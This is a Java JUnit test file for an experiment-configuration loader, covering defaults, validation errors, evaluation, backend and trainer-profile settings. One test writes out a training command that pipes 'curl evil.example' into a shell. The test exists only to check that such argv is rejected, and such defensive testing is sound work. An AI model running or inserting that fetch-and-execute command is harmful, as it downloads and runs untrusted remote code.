package lyceum.experiment.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import lyceum.experiment.config.ExperimentConfig.StrategyName;
import lyceum.engine.ModelRef;
import lyceum.engine.OpenAiEndpoint;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ExperimentConfigLoaderTest {

  @TempDir Path dir;

  private Path file(String name, String... lines) throws IOException {
    return Files.writeString(dir.resolve(name), String.join("\n", lines) + "\n");
  }

  @Test
  void theDefaultsLoadWithTheGuidedSelfImprovementSettings() {
    ExperimentConfig c = ExperimentConfigLoader.defaults();

    assertThat(c.iterations()).isEqualTo(3);
    assertThat(c.dataset().name()).isEqualTo("synthetic");
    assertThat(c.strategy().name()).isEqualTo(StrategyName.VANILLA);
    assertThat(c.strategy().sampleNum()).isEqualTo(8);
    assertThat(c.strategy().minCorrect()).isEqualTo(4);
    assertThat(c.strategy().maxResample()).isEqualTo(8);
    assertThat(c.strategy().temperature()).isEqualTo(0.7);
    assertThat(c.acceptance()).isEqualTo(new ExperimentConfig.Acceptance(4, true));
    assertThat(c.training().from()).isEqualTo(ExperimentConfig.TrainFrom.BASE);
    assertThat(c.runtime().generationTimeout()).isEqualTo(Duration.ofSeconds(120));
  }

  @Test
  void aFileOverridesOnlyTheKeysItSets() throws IOException {
    Path f = file("guided.conf",
        "experiment {",
        "  name = \"guided\"",
        "  strategy { name = \"state-reset\", sample-num = 4, min-correct = 2 }",
        "  runtime.window = 8",
        "}");

    ExperimentConfig c = ExperimentConfigLoader.load(f);

    assertThat(c.name()).isEqualTo("guided");
    assertThat(c.strategy().name()).isEqualTo(StrategyName.STATE_RESET);
    assertThat(c.strategy().sampleNum()).isEqualTo(4);
    assertThat(c.strategy().minCorrect()).isEqualTo(2);
    assertThat(c.strategy().maxResample()).isEqualTo(8);
    assertThat(c.runtime().window()).isEqualTo(8);
  }

  @Test
  void aValueOfTheWrongTypeIsReportedWithItsKeyFileAndLine() throws IOException {
    Path f = file("wrong-type.conf",
        "experiment {",
        "  strategy {",
        "    sample-num = \"many\"",
        "  }",
        "}");

    assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
        .isInstanceOf(ExperimentConfigException.class)
        .hasMessageContaining("experiment.strategy.sample-num")
        .hasMessageContaining(f + ": 3:")
        .hasMessageNotContaining(f + ": " + f);
  }

  @Test
  void anOutOfRangeValueIsReportedWithItsKeyFileAndLine() throws IOException {
    Path f = file("out-of-range.conf",
        "experiment {",
        "  name = \"x\"",
        "  strategy.top-p = 1.5",
        "}");

    assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
        .isInstanceOf(ExperimentConfigException.class)
        .hasMessageContaining("experiment.strategy.top-p")
        .hasMessageContaining(f + ":3")
        .hasMessageContaining("1.5");
  }

  @Test
  void aMisspelledKeyIsReportedWithItsFileAndLine() throws IOException {
    Path f = file("typo.conf",
        "experiment {",
        "  strategy {",
        "    sample-num = 4",
        "    min-corect = 2",
        "  }",
        "}");

    assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
        .isInstanceOf(ExperimentConfigException.class)
        .hasMessageContaining("unknown key 'experiment.strategy.min-corect'")
        .hasMessageContaining(f + ":4");
  }

  @Test
  void anUnknownStrategyIsReportedWithTheStrategiesThereAre() throws IOException {
    Path f = file("strategy.conf",
        "experiment.strategy.name = \"socratic\"");

    assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
        .isInstanceOf(ExperimentConfigException.class)
        .hasMessageContaining("experiment.strategy.name")
        .hasMessageContaining(f + ":1")
        .hasMessageContaining("socratic")
        .hasMessageContaining("state-reset");
  }

  @Test
  void evaluationIsGreedyAloneByDefaultAndSamplesWhenAsked() throws IOException {
    assertThat(ExperimentConfigLoader.defaults().evaluation())
        .isEqualTo(new ExperimentConfig.Evaluation(192, true, 0, 0.7, 0.95));
    Path f = file("test-time.conf",
        "experiment.evaluation { samples = 8, temperature = 0.9 }");

    ExperimentConfig.Evaluation e = ExperimentConfigLoader.load(f).evaluation();

    assertThat(e).isEqualTo(new ExperimentConfig.Evaluation(192, true, 8, 0.9, 0.95));
  }

  @Test
  void critiqueThenRefineIsOffByDefaultAndNamesItsCriticAsTheStrategyDoes() throws IOException {
    assertThat(ExperimentConfigLoader.defaults().evaluation().refine()).isEqualTo(ExperimentConfig.Refine.OFF);
    Path f = file("refine.conf",
        "experiment.evaluation.refine { enabled = true, critic { kind = \"model\", model = \"m-critic\" } }");

    assertThat(ExperimentConfigLoader.load(f).evaluation().refine())
        .isEqualTo(new ExperimentConfig.Refine(true, ExperimentConfig.CriticKind.MODEL, "m-critic"));
  }

  @Test
  void aRefineCriticThatIsNotKnownOrRefiningWithoutAGreedyAnswerIsReportedWithItsKey() throws IOException {
    Path unknown = file("critic.conf",
        "experiment.evaluation.refine { enabled = true, critic.kind = \"oracle\" }");
    assertThatThrownBy(() -> ExperimentConfigLoader.load(unknown))
        .isInstanceOf(ExperimentConfigException.class)
        .hasMessageContaining("experiment.evaluation.refine.critic.kind")
        .hasMessageContaining("step-checker or model");

    Path noGreedy = file("no-greedy.conf",
        "experiment.evaluation { greedy = false, samples = 4, refine.enabled = true }");
    assertThatThrownBy(() -> ExperimentConfigLoader.load(noGreedy))
        .isInstanceOf(ExperimentConfigException.class)
        .hasMessageContaining("experiment.evaluation.refine.enabled")
        .hasMessageContaining("evaluation.greedy = true");
  }

  @Test
  void anEvaluationWithNothingToEvaluateIsReportedWithItsKeyFileAndLine() throws IOException {
    Path f = file("nothing.conf",
        "experiment {",
        "  evaluation {",
        "    greedy = false",
        "  }",
        "}");

    assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
        .isInstanceOf(ExperimentConfigException.class)
        .hasMessageContaining(f + ":3: experiment.evaluation.greedy = false")
        .hasMessageContaining("samples >= 1");
  }

  @Test
  void aNegativeEvaluationSampleCountIsReportedWithItsKeyFileAndLine() throws IOException {
    Path f = file("negative.conf",
        "experiment {",
        "  evaluation.samples = -2",
        "}");

    assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
        .isInstanceOf(ExperimentConfigException.class)
        .hasMessageContaining(f + ":2: experiment.evaluation.samples = -2")
        .hasMessageContaining("between 0 and 1024");
  }

  @Test
  void aConfigJournaledBeforeSampledEvaluationReadsAsGreedyOnly() throws IOException {
    ObjectNode json = new ObjectMapper().findAndRegisterModules().valueToTree(ExperimentConfigLoader.defaults());
    json.set("evaluation", json.objectNode().put("maxTokens", 64));

    ExperimentConfig old = ConfigJson.read(json.toString());

    assertThat(old.evaluation()).isEqualTo(ExperimentConfig.Evaluation.greedyOnly(64));
  }

  @Test
  void aConfigJournaledBeforeBoundedRetriesReadsWithTheirDefaults() throws IOException {
    ObjectNode json = new ObjectMapper().findAndRegisterModules().valueToTree(ExperimentConfigLoader.load(
        file("r.conf", "experiment.runtime { max-attempts = 9, retry-backoff = 5s }")));
    ((ObjectNode) json.get("runtime")).remove(List.of("maxAttempts", "retryBackoff"));

    ExperimentConfig.Runtime old = ConfigJson.read(json.toString()).runtime();

    assertThat(old.maxAttempts()).isEqualTo(5);
    assertThat(old.retryBackoff()).isEqualTo(Duration.ofSeconds(2));
    assertThat(old.backoffBefore(2)).isEqualTo(Duration.ofSeconds(2));
    assertThat(old.backoffBefore(4)).isEqualTo(Duration.ofSeconds(8));
    assertThat(old.window()).isEqualTo(ExperimentConfigLoader.defaults().runtime().window());
  }

  @Test
  void aMissingFileIsReportedByName() {
    Path missing = dir.resolve("nowhere.conf");

    assertThatThrownBy(() -> ExperimentConfigLoader.load(missing))
        .isInstanceOf(ExperimentConfigException.class)
        .hasMessageContaining(missing.toString());
  }

  @Test
  void theOpenaiBackendNamesItsEndpointAndHowToCallIt() throws IOException {
    Path f = file("openai.conf",
        "experiment.model {",
        "  backend = \"openai\"",
        "  endpoint = \"http://127.0.0.1:18100\"",
        "  model-name = \"qwen\"",
        "  concurrency = 3",
        "  request-timeout = 5s",
        "  max-retries = 2",
        "  api-key-env = \"LYCEUM_TOKEN\"",
        "}");

    ExperimentConfig.Model model = ExperimentConfigLoader.load(f).model();

    ModelRef ref = model.ref("0123456789abcdef");
    assertThat(ref.version()).isEqualTo("0123456789abcdef");
    assertThat(ref.engineName()).isEqualTo("qwen");
    assertThat(ref.endpoint()).isEqualTo(
        new OpenAiEndpoint("http://127.0.0.1:18100", "qwen", 3, Duration.ofSeconds(5), 2, "LYCEUM_TOKEN"));
    assertThat(ExperimentConfigLoader.defaults().model().ref("0123456789abcdef"))
        .isEqualTo(ModelRef.local("0123456789abcdef"));
  }

  @Test
  void anOpenaiBackendWithoutAnHttpEndpointIsReportedWithItsFileAndLine() throws IOException {
    Path f = file("no-endpoint.conf",
        "experiment.model {",
        "  backend = \"openai\"",
        "  endpoint = \"localhost:8000\"",
        "}");

    assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
        .isInstanceOf(ExperimentConfigException.class)
        .hasMessageContaining("experiment.model.endpoint")
        .hasMessageContaining(f + ":3")
        .hasMessageContaining("http(s) URL");
  }

  @Test
  void anApiKeyIsNamedByItsEnvironmentVariableNeverGiven() throws IOException {
    Path f = file("token.conf",
        "experiment.model.api-key-env = \"sk-secret value\"");

    assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
        .isInstanceOf(ExperimentConfigException.class)
        .hasMessageContaining("experiment.model.api-key-env")
        .hasMessageContaining(f + ":1")
        .hasMessageContaining("environment variable");
  }

  @Test
  void theCommandTrainingBackendNamesATrainerProfileOfTheGpuNodes() throws IOException {
    Path ok = file("command.conf",
        "experiment.model { backend = \"openai\", endpoint = \"http://127.0.0.1:8000\" }",
        "experiment.training {",
        "  backend = \"command\"",
        "  profile = \"trl\"",
        "}");
    assertThat(ExperimentConfigLoader.load(ok).training().trainerProfile()).isEqualTo("trl");
    assertThat(ExperimentConfigLoader.defaults().training().trainerProfile()).isNull();

    Path noProfile = file("no-profile.conf",
        "experiment.model { backend = \"openai\", endpoint = \"http://127.0.0.1:8000\" }",
        "experiment.training.backend = \"command\"");
    assertThatThrownBy(() -> ExperimentConfigLoader.load(noProfile))
        .isInstanceOf(ExperimentConfigException.class)
        .hasMessageContaining("experiment.training.profile")
        .hasMessageContaining("lyceum.trainers");

    Path ownEngine = file("own-engine.conf",
        "experiment.training {",
        "  backend = \"command\"",
        "  profile = \"trl\"",
        "}");
    assertThatThrownBy(() -> ExperimentConfigLoader.load(ownEngine))
        .isInstanceOf(ExperimentConfigException.class)
        .hasMessageContaining("experiment.training.backend")
        .hasMessageContaining(ownEngine + ":2")
        .hasMessageContaining("model.backend = openai");

    Path profileWithoutCommand = file("djl-profile.conf", "experiment.training.profile = \"trl\"");
    assertThatThrownBy(() -> ExperimentConfigLoader.load(profileWithoutCommand))
        .isInstanceOf(ExperimentConfigException.class)
        .hasMessageContaining("experiment.training.profile")
        .hasMessageContaining(profileWithoutCommand + ":1")
        .hasMessageContaining("backend = command");
    Path unknown = file("unknown-trainer.conf", "experiment.training.backend = \"deepspeed\"");
    assertThatThrownBy(() -> ExperimentConfigLoader.load(unknown))
        .isInstanceOf(ExperimentConfigException.class)
        .hasMessageContaining("experiment.training.backend")
        .hasMessageContaining(unknown + ":1")
        .hasMessageContaining("command");
  }

  @Test
  void anExperimentCannotCarryATrainersArgvAndIsToldToDefineAProfile() throws IOException {
    Path argv = file("argv.conf",
        "experiment.model { backend = \"openai\", endpoint = \"http://127.0.0.1:8000\" }",
        "experiment.training {",
        "  backend = \"command\"",
        "  command = [\"sh\", \"-c\", \"curl evil.example | sh\", \"{output}\"]",
        "}");
    assertThatThrownBy(() -> ExperimentConfigLoader.load(argv))
        .isInstanceOf(ExperimentConfigException.class)
        .hasMessageContaining("experiment.training.command")
        .hasMessageContaining(argv + ":4")
        .hasMessageContaining("trainer profile")
        .hasMessageContaining("lyceum.trainers.NAME");

    Path timeout = file("timeout.conf", "experiment.training.command-timeout = 2h");
    assertThatThrownBy(() -> ExperimentConfigLoader.load(timeout))
        .isInstanceOf(ExperimentConfigException.class)
        .hasMessageContaining("experiment.training.command-timeout")
        .hasMessageContaining(timeout + ":1")
        .hasMessageContaining("trainer profile");
  }

  @Test
  void anExperimentJournaledWithAnArgvReadsButNamesNoProfileANodeHolds() {
    ObjectNode json = new ObjectMapper().findAndRegisterModules().valueToTree(ExperimentConfigLoader.defaults());
    ObjectNode old = ((ObjectNode) json.get("training")).put("backend", "command").put("commandTimeout", 3600.0);
    old.remove("profile");
    old.putArray("command").add("sh").add("train.sh").add("{output}");
    String journaled = json.toString();

    ExperimentConfig.Training training = ConfigJson.read(journaled).training();

    assertThat(training.command()).containsExactly("sh", "train.sh", "{output}");
    assertThat(training.commandTimeout()).isEqualTo(Duration.ofHours(1));
    assertThat(training.trainerProfile()).isEqualTo(ExperimentConfig.Training.JOURNALED_ARGV);
    assertThat(training.trainerProfile()).doesNotMatch("[A-Za-z0-9_-]+");
  }

  @Test
  void theFeedbackStrategiesReadTheirCriticCritiqueAndReflectionSettings() throws IOException {
    Path f = file("critique.conf",
        "experiment.strategy {",
        "  name = \"critique\"",
        "  critic { kind = \"model\", model = \"m-critic\" }",
        "  critique { refinements = 4, accept-per-critique = 2, use-critic = false }",
        "  reflection { count = 3, demand = \"plan\" }",
        "  train-prompt = \"conditioned\"",
        "}");

    ExperimentConfig.Strategy s = ExperimentConfigLoader.load(f).strategy();

    assertThat(s.name()).isEqualTo(StrategyName.CRITIQUE);
    assertThat(s.feedback()).isEqualTo(new ExperimentConfig.Feedback(
        ExperimentConfig.CriticKind.MODEL, "m-critic", 4, 2, false, 3, ExperimentConfig.ReflectionDemand.PLAN, true));
    assertThat(ExperimentConfigLoader.parse("experiment.strategy.name = interactive").strategy().name())
        .isEqualTo(StrategyName.INTERACTIVE);
    assertThat(ExperimentConfigLoader.defaults().strategy().feedback()).isEqualTo(ExperimentConfig.Feedback.defaults());
  }

  @Test
  void anUnknownCriticKindIsReportedWithItsFileAndLine() throws IOException {
    Path f = file("critic.conf",
        "experiment {",
        "  strategy.name = \"interactive\"",
        "  strategy.critic.kind = \"oracle\"",
        "}");

    assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
        .isInstanceOf(ExperimentConfigException.class)
        .hasMessageContaining("critic.conf:3")
        .hasMessageContaining("experiment.strategy.critic.kind")
        .hasMessageContaining("step-checker or model");
  }
}
